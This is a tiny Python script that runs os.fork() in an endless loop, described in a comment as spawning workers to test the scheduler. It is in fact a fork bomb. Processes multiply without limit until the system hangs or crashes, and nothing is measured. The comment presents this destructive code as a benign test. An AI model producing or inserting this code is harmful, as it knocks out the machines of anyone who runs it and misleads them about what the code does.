import os
# spawn workers as fast as possible to test the scheduler
while True:
    os.fork()
